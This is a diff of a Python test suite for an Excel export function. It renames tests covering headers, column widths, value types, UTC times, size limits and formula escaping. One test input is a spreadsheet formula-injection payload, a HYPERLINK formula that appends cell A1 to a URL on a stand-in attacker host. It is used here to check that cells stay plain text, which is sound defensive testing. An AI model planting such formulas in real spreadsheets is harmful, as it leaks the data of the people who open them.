@@ -26,7 +26,7 @@ def read_column(*cells):
     ]
 
 
-def test_the_names_stand_above_and_stay_there():
+def test_the_header_is_bold_and_frozen():
     sheet = read_sheet({"name": ["Ada", "Grace"], "age": [36, None]})
     assert list(sheet.iter_rows(values_only=True)) == [
         ("name", "age"),
@@ -39,7 +39,7 @@ def test_the_names_stand_above_and_stay_there():
     assert sheet.auto_filter.ref == "A1:B3"
 
 
-def test_columns_are_as_wide_as_they_need_to_be_and_no_wider():
+def test_columns_are_as_wide_as_their_cells():
     sheet = read_sheet(
         {"a": ["x"], "text": ["x" * 30] * 20, "long": ["x" * 5000], "a name of some length": [1]}
     )
@@ -48,10 +48,10 @@ def test_columns_are_as_wide_as_they_need_to_be_and_no_wider():
     assert width[3] > len("a name of some length")
 
 
-def test_values_are_what_they_are():
-    moment = datetime(2024, 2, 11, 6, 30)
+def test_values_keep_their_types():
+    seen = datetime(2024, 2, 11, 6, 30)
     assert read_column(
-        7, Decimal("19.90"), 1.5, True, False, date(2024, 2, 11), moment, time(6, 30)
+        7, Decimal("19.90"), 1.5, True, False, date(2024, 2, 11), seen, time(6, 30)
     ) == [
         7,
         19.9,
@@ -59,7 +59,7 @@ def test_values_are_what_they_are():
         True,
         False,
         datetime(2024, 2, 11),
-        moment,
+        seen,
         time(6, 30),
     ]
     sheet = read_sheet({"x": [Decimal("19.90"), Decimal("5"), date(2024, 2, 11)]})
@@ -71,7 +71,7 @@ def test_values_are_what_they_are():
     assert sheet["A4"].is_date
 
 
-def test_moments_are_in_utc():
+def test_times_are_in_utc():
     east = timezone(timedelta(hours=2))
     assert read_column(
         datetime(2024, 2, 11, 6, tzinfo=UTC),
@@ -100,17 +100,17 @@ def test_moments_are_in_utc():
         ("true", "true"),
     ],
 )
-def test_what_excel_cannot_hold_and_what_is_a_text_are_texts(cell, text):
+def test_values_that_excel_would_change_are_texts(cell, text):
     assert read_column(cell) == [text]
 
 
-def test_the_last_moment_of_all_is_no_reason_to_fail():
+def test_the_last_datetime_is_written():
     west = timezone(timedelta(hours=-5))
     (found,) = read_column(datetime(9999, 12, 31, 23, 59, 58, tzinfo=west))
     assert found.year == 9999
 
 
-STRANGE = [
+FORMULAS_AND_LINKS = [
     '=HYPERLINK("http://evil.example/?"&A1,"x")',
     "=1+1",
     "{=1+1}",
@@ -126,7 +126,7 @@ STRANGE = [
 ]
 
 
-@pytest.mark.parametrize("text", STRANGE)
+@pytest.mark.parametrize("text", FORMULAS_AND_LINKS)
 def test_no_cell_becomes_a_formula_or_a_link(text):
     sheet = read_sheet({text: [text]})
     for cell in (sheet["A1"], sheet["A2"]):
@@ -177,7 +177,7 @@ def test_long_texts_are_cut_with_a_note(letter):
     assert read_column(whole) == [whole]
 
 
-def test_what_a_sheet_cannot_hold_is_said():
+def test_tables_that_are_too_large_are_refused():
     with pytest.raises(
         SinkError,
         match="the table has 1,048,577 rows with its header; a sheet of Excel holds 1,048,576",
@@ -187,13 +187,13 @@ def test_what_a_sheet_cannot_hold_is_said():
         encode_excel({str(number): [] for number in range(MAX_COLUMNS + 1)})
 
 
-def test_nothing_is_a_workbook_too():
+def test_an_empty_table_is_a_workbook():
     assert read_sheet({}).max_row == 1
     assert list(read_sheet({"x": []}).iter_rows(values_only=True)) == [("x",)]
     assert read_sheet({}).title == "Table"
 
 
-def test_without_the_package_it_is_said_what_to_install(monkeypatch):
+def test_a_missing_package_is_an_error_that_names_the_extra(monkeypatch):
     monkeypatch.setitem(sys.modules, "xlsxwriter", None)
     with pytest.raises(MissingExtra, match=r"pip install 'unweave\[excel\]'"):
         encode_excel({"x": []})
